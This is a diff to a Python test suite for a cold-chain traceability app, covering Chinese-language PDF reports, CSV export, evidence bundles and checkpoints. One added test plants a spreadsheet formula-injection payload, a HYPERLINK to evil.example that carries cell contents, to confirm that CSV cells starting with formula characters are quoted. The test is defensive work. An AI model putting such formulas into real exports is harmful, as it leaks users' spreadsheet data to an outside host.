@@ -29,11 +29,13 @@ from coldchain.cli import app as cli_app
 from traceability.api.app import create_app
 from traceability.api.auth import create_key
 from traceability.chart import CHART_MSGIDS
-from traceability.i18n import read_catalog
-from traceability.ledger.bundle import verify_bundle
-from traceability.reports import proof, rows
-from traceability.reports.build import Report, read_report, render, report_leg_readings, trace_page_url
+from traceability.i18n import read_catalog, words
+from traceability.ledger import checkpoint
+from traceability.ledger.bundle import export_lot, verify_bundle
+from traceability.reports import csv_report, proof, rows
+from traceability.reports.build import Report, read_report, render, report_leg_readings
 from traceability.reports.pdf import TEMPLATES
+from traceability.web.paths import trace_page_url
 
 SHANGHAI = ZoneInfo("Asia/Shanghai")
 
@@ -99,6 +101,27 @@ def test_pdf_has_the_chinese_labels_each_excursion_and_the_head_hash(
     assert dark > 0.01 * grey.width * grey.height
 
 
+def test_pdf_writes_durations_steps_and_statuses_in_chinese(
+    db_url: str, lot: tuple[str, str], tmp_path: Path
+) -> None:
+    with psycopg.connect(db_url) as conn:
+        conn.execute("UPDATE lot SET bonded_status = 'released' WHERE lot_id = %s", (lot[0],))
+    report = _report(db_url, lot[0])
+    pdf = tmp_path / "r.pdf"
+    pdf.write_bytes(render(report, "pdf"))
+    text = subprocess.run(["pdftotext", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
+    flat = "".join(text.split())
+    steps = {e.biz_step for e in report.events} & words.BIZ_STEPS.keys()
+    assert steps
+    for step in steps:
+        assert read_catalog("reports")[words.BIZ_STEPS[step]] in flat, step
+        assert step not in text, step
+    assert "保税状态:已放行" in flat or "保税状态：已放行" in flat
+    assert "released" not in text
+    assert re.search(r"\d+ (分|秒)", text)
+    assert not re.search(r"\d+ (min|s|h)\b", text)
+
+
 def test_xlsx_has_typed_sortable_columns_and_one_row_per_event(db_url: str, lot: tuple[str, str]) -> None:
     report = _report(db_url, lot[0], "en")
     book = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))
@@ -159,10 +182,47 @@ def test_csv_has_the_same_rows_and_states_its_proof(db_url: str, lot: tuple[str,
     assert table[1][9].endswith("Asia/Shanghai")
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_text_that_starts_like_a_formula_is_inert(db_url: str, lot: tuple[str, str]) -> None:
+    with psycopg.connect(db_url) as conn:
+        conn.execute("UPDATE location SET name = %s", (HYPERLINK,))
+    report = _report(db_url, lot[0], "en")
+    text = render(report, "csv").decode("utf-8-sig")
+    table = list(csv.reader(line for line in text.splitlines() if not line.startswith("#")))
+    names = [r[table[0].index("Location name")] for r in table[1:]]
+    assert "'" + HYPERLINK in names
+    assert set(names) <= {"'" + HYPERLINK, ""}, names
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for c in r)
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [
+        (-3.5, "-3.5"),
+        (-2, "-2"),
+        (-40.0, "-40"),
+        ("-3.5", "'-3.5"),
+        ("+86 10 1234", "'+86 10 1234"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=b", "a=b"),
+        (["=1+1"], "'=1+1"),
+    ],
+)
+def test_csv_cells_keep_numbers_and_quote_formulas(value: object, text: str) -> None:
+    assert csv_report.text_of(value, str) == text
+
+
 def test_companion_bundle_proves_the_report_offline(db_url: str, lot: tuple[str, str]) -> None:
     lot_id, public = lot
     report = _report(db_url, lot_id)
-    assert hashlib.sha256(report.bundle).hexdigest() == report.proof.bundle_sha256
+    with psycopg.connect(db_url) as conn:  # the bundle fetched on its own, as an inspector would
+        fetched = export_lot(conn, lot_id)
+    assert fetched == report.bundle
+    assert hashlib.sha256(fetched).hexdigest() == report.proof.bundle_sha256
     assert verify_bundle(report.bundle, pinned_public_key=public).ok
     assert (report.proof.seq_first, report.proof.seq_last) == (1, 8)
     tampered = bytearray(report.bundle)
@@ -186,6 +246,16 @@ def test_cli_writes_the_report_and_its_bundle(
     assert companion == server_tmp / "lot.xlsx.bundle.json"
     assert answer["events"] == 8
     assert openpyxl.load_workbook(out)["Events"].max_row == 9
+    with psycopg.connect(db_url) as conn:
+        signed = len(checkpoint.stored(conn))
+    again = runner.invoke(
+        cli_app, ["report", "lot", lot[0], "--format", "csv", "-o", str(server_tmp / "l.csv")]
+    )
+    assert again.exit_code == 0, again.output
+    # The head did not move: no new checkpoint, and the same bundle proves both reports.
+    assert json.loads(again.stdout.strip().splitlines()[-1])["bundle_sha256"] == answer["bundle_sha256"]
+    with psycopg.connect(db_url) as conn:
+        assert len(checkpoint.stored(conn)) == signed
     monkeypatch.delenv("COLDCHAIN_DATABASE_URL")
     checked = runner.invoke(cli_app, ["ledger", "verify-bundle", str(companion)])
     assert checked.exit_code == 0, checked.output
@@ -233,6 +303,34 @@ def test_api_serves_each_report_and_its_bundle(
     assert client.get(f"/trace/{lot_id}").json()["lot_id"] == lot_id  # the trace route still answers
 
 
+def _sign_again(db_url: str, home: Path) -> checkpoint.Checkpoint:
+    """A second checkpoint at the same head (nothing appended in between)."""
+    with psycopg.connect(db_url) as conn:
+        cp = checkpoint.sign_head(conn, checkpoint.load_or_create_key(home / checkpoint.KEY_FILE))
+        conn.commit()
+    assert cp is not None
+    return cp
+
+
+def test_a_reports_link_fetches_the_bundle_it_states_when_a_head_is_signed_twice(
+    client: TestClient, lot: tuple[str, str], db_url: str, server_tmp: Path
+) -> None:
+    lot_id, public = lot
+    again = _sign_again(db_url, server_tmp)
+    for params in ({}, {"seq": again.seq}):
+        response = client.get(f"/trace/{lot_id}/report.csv", params=params)
+        assert response.status_code == 200, response.text
+        link = response.headers["link"]
+        bundle = client.get(link[1 : link.index(">")])
+        assert bundle.status_code == 200
+        assert hashlib.sha256(bundle.content).hexdigest() == response.headers["x-evidence-bundle-sha256"]
+        assert json.loads(bundle.content)["checkpoint"]["signed_at"] == again.signed_at
+        assert verify_bundle(bundle.content, pinned_public_key=public).ok
+    unknown = client.get(f"/trace/{lot_id}/report.pdf", params={"seq": 999})
+    assert unknown.status_code == 404
+    assert unknown.headers["content-type"].startswith("application/problem+json")
+
+
 def test_api_unknown_lot_and_unknown_checkpoint_are_problems(
     client: TestClient, lot: tuple[str, str]
 ) -> None:
@@ -263,5 +361,6 @@ def test_every_report_and_chart_label_is_translated() -> None:
         used |= set(re.findall(r'_\("([^"]+)"\)', text))
         used |= set(re.findall(r'^\s+\("([^"]+)", ', text, re.M))  # the proof block's labels
     used |= set(CHART_MSGIDS)
+    used |= {*words.DURATION_MSGIDS, *words.BONDED.values(), *words.BIZ_STEPS.values()}
     catalog = read_catalog("reports") | read_catalog("common")
     assert sorted(used - catalog.keys()) == []
